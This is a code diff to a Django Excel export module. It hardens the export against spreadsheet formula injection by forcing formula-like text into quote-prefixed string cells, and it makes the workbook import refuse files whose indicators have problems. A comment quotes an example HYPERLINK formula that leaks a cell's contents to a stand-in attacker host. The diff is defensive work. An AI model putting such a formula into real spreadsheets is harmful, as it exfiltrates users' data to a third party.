@@ -5,6 +5,7 @@ import io
 
 from django.db import transaction
 from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
 from openpyxl.styles import Font
 from openpyxl.utils import get_column_letter
 
@@ -16,6 +17,7 @@ from milestones.status import Status
 from plans.importing import ImportRefused, Problem
 from plans.models import Person
 from safeguarding import dates
+from safeguarding.text import strip_control_characters
 
 MILESTONE_HEADER = [
     "Ref",
@@ -36,6 +38,34 @@ MILESTONE_HEADER = [
 ]
 
 
+# A text cell starting with one of these is read as a formula by spreadsheet programs (OWASP
+# "CSV injection"): =HYPERLINK("http://evil.example/?leak="&A2, "Click") in a progress note would
+# send the next cell to someone else's server when clicked.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _text_cell(sheet, value):
+    """Text as a cell that can only ever be text.
+
+    Control characters are stripped (openpyxl refuses them, and one stored before they were
+    refused must not break every export). Text that a spreadsheet would read as a formula is
+    written as a string cell (data type 's', never 'f'), with Excel's own "quote prefix" style
+    so that editing the cell in Excel keeps it text. The text itself is not changed (no
+    leading apostrophe added): importing the export gives back exactly what was written, and
+    a note that really starts with '-' or '=' is shown as its author wrote it.
+    """
+    value = strip_control_characters(value)
+    cell = WriteOnlyCell(sheet, value)
+    if value.startswith(FORMULA_STARTS):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+    return cell
+
+
+def _safe_row(sheet, row):
+    return [_text_cell(sheet, value) if isinstance(value, str) else value for value in row]
+
+
 def _sheet(workbook, title, header, rows, first=False):
     sheet = workbook.active if first else workbook.create_sheet(title)
     sheet.title = title
@@ -43,7 +73,7 @@ def _sheet(workbook, title, header, rows, first=False):
     for c in sheet[1]:
         c.font = Font(bold=True)
     for row in rows:
-        sheet.append(list(row))
+        sheet.append(_safe_row(sheet, row))
     for n, name in enumerate(header, start=1):
         sheet.column_dimensions[get_column_letter(n)].width = min(60, max(12, len(name) + 2))
     sheet.freeze_panes = "A2"
@@ -211,6 +241,8 @@ def plan_workbook_import(*, plan_name, filename, content, dry_run=False, owner=N
             plan = Plan.objects.get(name=plan_name)
             problems = []
             summary.indicators = indicator_importing.definitions_import(plan, extra.get("Indicators"), problems)
+            if problems:
+                raise ImportRefused(problems)
             if extra.get("Indicator values") and len(extra["Indicator values"]) > 1:
                 try:
                     summary.indicator_values = indicator_importing.indicator_values_import(
